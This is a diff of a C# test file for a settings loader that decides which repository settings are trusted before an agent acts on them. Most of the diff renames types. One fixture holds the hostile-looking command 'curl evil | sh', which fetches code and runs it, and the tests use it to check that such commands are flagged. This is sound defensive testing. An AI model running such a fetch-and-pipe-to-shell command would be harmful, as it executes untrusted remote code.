@@ -55,10 +55,11 @@ public class TrustTests
         var (sample, text) = SampleOf.Setting(name);
 
         var loaded = Load(text, trusted: false);
-        var asked = Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", text) }).Items.Any(item => item.Setting == name);
+        var asked = Question(new RawSettingSourceContent { RepositoryFile = new("config.yaml", text) })
+            .Items.Any(item => item.Setting == name);
         var byVariable =
             Question(
-                new SettingSourceTexts
+                new RawSettingSourceContent
                 {
                     DotEnv = new(
                         ".env",
@@ -77,7 +78,7 @@ public class TrustTests
     [Fact]
     public void Load_UntrustedRepository_ActsOnNothingOfItButHarmlessSettings()
     {
-        var input = new SettingSourceTexts
+        var input = new RawSettingSourceContent
         {
             RepositoryFile = new(
                 "config.yaml",
@@ -117,7 +118,7 @@ public class TrustTests
     public void Load_VariableThatNamesProgramsOrAddresses_IsNeverHandedToAgents(string name)
     {
         var result = SettingsLoader.Load(
-            new SettingSourceTexts { IsTrusted = true, DotEnv = new(".env", $"{name}=evil\nAWS_REGION=eu-west-1\n") }
+            new RawSettingSourceContent { IsTrusted = true, DotEnv = new(".env", $"{name}=evil\nAWS_REGION=eu-west-1\n") }
         );
 
         Assert.Equal(["AWS_REGION"], result.AgentEnvironment.Keys);
@@ -131,7 +132,7 @@ public class TrustTests
     public void Load_SecretForAnAddressOfTheRepository_IsRefusedEvenWhereItIsTrusted(string text, string key)
     {
         var fault = Assert.Single(
-            SettingsLoader.Load(new SettingSourceTexts { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
+            SettingsLoader.Load(new RawSettingSourceContent { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
         );
 
         Assert.Equal(key, fault.Key);
@@ -148,7 +149,7 @@ public class TrustTests
     public void Load_SecretForAnAddressOfTheRepository_SaysHowToGiveTheAddress(string text, string secret, string ways)
     {
         var fault = Assert.Single(
-            SettingsLoader.Load(new SettingSourceTexts { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
+            SettingsLoader.Load(new RawSettingSourceContent { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
         );
 
         Assert.Equal($"{secret} is not sent to an address from the repository's files.", fault.Message);
@@ -158,7 +159,7 @@ public class TrustTests
     [Fact]
     public void Load_AddressOfTheUsersOwnFile_TakesTheSecret()
     {
-        var input = new SettingSourceTexts
+        var input = new RawSettingSourceContent
         {
             IsTrusted = true,
             UserFile = new("user.yaml", "temporal: {address: 'mine:7233'}\nplanner: {agent: api, url: 'https://mine.example'}\n"),
@@ -181,7 +182,7 @@ public class TrustTests
         ];
 
         var question = Question(
-            new SettingSourceTexts { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") },
+            new RawSettingSourceContent { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") },
             found
         );
 
@@ -189,7 +190,7 @@ public class TrustTests
             ["tracker", "yarn install --immutable", "yarn run test: curl evil | sh", """tracker: {"command":"evil"}"""],
             question.Items.Select(item => item.Value.Trim('[', ']'))
         );
-        Assert.All(question.Items, item => Assert.Equal(TrustedEntryEffect.Runs, item.Kind));
+        Assert.All(question.Items, item => Assert.Equal(TrustRequiringSettingEffect.Runs, item.Kind));
     }
 
     [Fact]
@@ -205,18 +206,18 @@ public class TrustTests
         ];
 
         var prints = texts
-            .Select(text => Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", text) }).Fingerprint)
+            .Select(text => Question(new RawSettingSourceContent { RepositoryFile = new("config.yaml", text) }).Fingerprint)
             .ToList();
 
         Assert.Equal(prints.Count, prints.Distinct().Count());
         Assert.Equal(
             prints[0],
-            Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", "# moved\n\nworkers: 9\n" + texts[0]) }).Fingerprint
+            Question(new RawSettingSourceContent { RepositoryFile = new("config.yaml", "# moved\n\nworkers: 9\n" + texts[0]) }).Fingerprint
         );
         Assert.Equal(
             prints[0],
             Question(
-                new SettingSourceTexts
+                new RawSettingSourceContent
                 {
                     RepositoryFile = new("config.yaml", texts[0]),
                     Environment = new Dictionary<string, string> { ["ORCHESTRATOR_GATES__TASK"] = "[x]" },
@@ -232,7 +233,7 @@ public class TrustTests
         try
         {
             var file = Path.Combine(folder, "trust.json");
-            var question = new RepositoryTrustRequest([new(TrustedEntryEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
+            var question = new RepositoryTrustRequest([new(TrustRequiringSettingEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
             new RepositoryTrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-100))).TrustForRun("/repo", "old", question);
             new RepositoryTrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-10))).TrustForRun(
                 "/repo",
@@ -265,7 +266,7 @@ public class TrustTests
         var folder = Directory.CreateTempSubdirectory("trust-tests-").FullName;
         try
         {
-            var question = new RepositoryTrustRequest([new(TrustedEntryEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
+            var question = new RepositoryTrustRequest([new(TrustRequiringSettingEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
             await Task.WhenAll(
                 Enumerable
                     .Range(0, 40)
@@ -290,8 +291,8 @@ public class TrustTests
     private static SettingValue Value(SettingsLoadResult result, string name) => result.Values.Single(value => value.Name == name);
 
     private static SettingsLoadResult Load(string text, bool trusted) =>
-        SettingsLoader.Load(new SettingSourceTexts { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
+        SettingsLoader.Load(new RawSettingSourceContent { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
 
-    private static RepositoryTrustRequest Question(SettingSourceTexts input, params DetectedCommand[] found) =>
+    private static RepositoryTrustRequest Question(RawSettingSourceContent input, params DetectedCommand[] found) =>
         RepositoryTrustRequestBuilder.Of(input, found);
 }
